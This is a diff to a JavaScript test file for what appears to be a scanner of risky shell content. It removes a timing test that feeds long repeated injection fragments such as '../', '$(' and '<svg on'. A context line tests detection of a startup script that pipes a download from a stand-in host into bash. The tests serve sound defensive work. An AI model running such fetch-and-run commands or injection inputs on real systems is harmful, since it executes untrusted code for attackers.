@@ -376,12 +376,3 @@ test('a member that a machine runs at its start is a script', () => {
   expect(at('user_data', '#!/bin/bash\ncurl https://a.example/x | bash')).toContain('shell/runs_input /user_data');
   expect(at('user_data', '#!/bin/bash\napt-get update\n')).toEqual([]);
 });
-
-test('words made to be slow to read are read in time', () => {
-  for (const part of ['../', 'a/../', 's/a/', 'http://', '<svg on', '$(', "' ", 'x=1;', '${a}', 'a=b&']) {
-    const started = performance.now();
-    for (const command of ['cat', 'sed', 'git', 'curl', 'awk'])
-      run(`${command} ${part.repeat(Math.floor(18_000 / part.length))}`);
-    expect([part, performance.now() - started < 3_000]).toEqual([part, true]);
-  }
-});
